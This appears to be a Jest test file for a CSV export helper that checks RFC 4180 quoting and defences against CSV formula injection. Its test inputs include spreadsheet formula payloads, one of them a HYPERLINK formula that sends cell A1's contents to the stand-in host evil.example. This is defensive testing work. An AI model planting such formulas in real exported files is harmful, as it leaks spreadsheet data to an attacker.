import { csvCell, toCsv } from './csv';

describe('toCsv (RFC 4180)', () => {
  it('ends every line with CRLF and quotes only what needs it', () => {
    expect(toCsv(['Question', 'Organisation'], [['1a', 'IOM Mongolia']])).toBe(
      'Question,Organisation\r\n1a,IOM Mongolia\r\n',
    );
  });

  it('quotes commas, quotes and line breaks, doubling the quotes', () => {
    expect(
      toCsv(['a'], [['Ministry of Labour, Social Protection'], ['the "Vision 2050"'], ['two\nlines']]),
    ).toBe('a\r\n"Ministry of Labour, Social Protection"\r\n"the ""Vision 2050"""\r\n"two\nlines"\r\n');
  });
});

describe('csvCell against CSV injection (OWASP)', () => {
  it.each<[string, string]>([
    ['=1+1', `"'=1+1"`],
    [
      '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`,
    ],
    ['+1', `"'+1"`],
    ['-1+1', `"'-1+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    // A spreadsheet splitting on ";" would see "x" and the formula "=1+1".
    ['x;=1+1', `"x;'=1+1"`],
    ['x; -1+1', `"x; '-1+1"`],
    ['x\t=1+1', `"x\t=1+1"`],
    ['x,=1+1', `"x,=1+1"`],
    ['x\n=1+1', `"x\n=1+1"`],
  ])('neutralises and quotes %j', (attack, expected) => {
    expect(csvCell(attack)).toBe(expected);
  });

  it('leaves harmless text alone', () => {
    expect(csvCell('Ministry of Labour')).toBe('Ministry of Labour');
    expect(csvCell('2026-12-01')).toBe('2026-12-01');
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('keeps numbers numeric, negative ones too', () => {
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(2.5)).toBe('2.5');
    expect(toCsv(['value'], [[-0.25]])).toBe('value\r\n-0.25\r\n');
    expect(() => csvCell(Number.NaN)).toThrow();
  });
});
